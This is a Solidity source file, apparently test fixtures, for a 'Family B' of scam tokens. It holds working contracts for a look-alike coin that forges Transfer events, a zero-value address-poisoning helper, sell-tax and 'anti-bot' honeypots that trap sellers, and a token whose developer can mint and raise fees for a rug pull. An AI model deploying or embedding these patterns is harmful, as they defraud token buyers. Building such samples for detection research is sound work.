// SPDX-License-Identifier: MIT
// Family B scam tokens: a fake look-alike stable coin whose owner writes arbitrary Transfer
// events; a zero-value poisoner; a sell-tax honeypot; an "anti-bot" honeypot; a launch token
// whose owner can mint and change its fee (rug pulls).
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts-v4/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts-v4/token/ERC20/IERC20.sol";

contract LookalikeCoin {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    address private immutable owner;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 dec_) {
        name = name_;
        symbol = symbol_;
        decimals = dec_;
        owner = msg.sender;
    }

    function totalSupply() external pure returns (uint256) {
        return 1e30;
    }

    /// Writes "transfers" that never moved value: fills wallets' histories with look-alikes.
    function emitTransfers(address[] calldata from, address[] calldata to, uint256[] calldata amounts) external {
        require(msg.sender == owner, "no");
        for (uint256 i = 0; i < from.length; i++) {
            balanceOf[to[i]] += amounts[i];
            emit Transfer(from[i], to[i], amounts[i]);
        }
    }
}

contract HistoryWriter {
    /// transferFrom of 0 needs no allowance in most tokens: it puts `to` into `from`'s history.
    function write(IERC20 token, address[] calldata from, address[] calldata to) external {
        for (uint256 i = 0; i < from.length; i++) {
            token.transferFrom(from[i], to[i], 0);
        }
    }
}

abstract contract Launchpad is ERC20 {
    address public immutable dev;
    address public market;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) {
        dev = msg.sender;
        _mint(msg.sender, supply);
    }

    modifier onlyDev() {
        require(msg.sender == dev, "dev");
        _;
    }

    function setMarket(address m) external onlyDev {
        market = m;
    }
}

contract MoonToken is Launchpad {
    uint256 public sellTaxBps;

    constructor(uint256 supply) Launchpad("Moon Rocket", "MOONR", supply) {}

    function setSellTax(uint256 bps) external onlyDev {
        require(bps <= 10_000, "bps");
        sellTaxBps = bps;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == market && from != dev && sellTaxBps > 0) {
            uint256 tax = (amount * sellTaxBps) / 10_000;
            super._transfer(from, dev, tax);
            amount -= tax;
        }
        super._transfer(from, to, amount);
    }
}

contract AntiBotToken is Launchpad {
    mapping(address => bool) public allowed;
    bool public tradingGuard;

    constructor(uint256 supply) Launchpad("Safe Launch", "SAFEL", supply) {
        allowed[msg.sender] = true;
    }

    function setGuard(bool on) external onlyDev {
        tradingGuard = on;
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal view override {
        if (tradingGuard && to == market && !allowed[from]) revert("bot");
    }
}

contract FarmToken is Launchpad {
    uint256 public feeBps;

    constructor(uint256 supply) Launchpad("Harvest Farm", "HFARM", supply) {}

    function mint(address to, uint256 amount) external onlyDev {
        _mint(to, amount);
    }

    function setFee(uint256 bps) external onlyDev {
        require(bps <= 10_000, "bps");
        feeBps = bps;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (feeBps > 0 && from != dev && to != dev) {
            uint256 fee = (amount * feeBps) / 10_000;
            super._transfer(from, dev, fee);
            amount -= fee;
        }
        super._transfer(from, to, amount);
    }
}
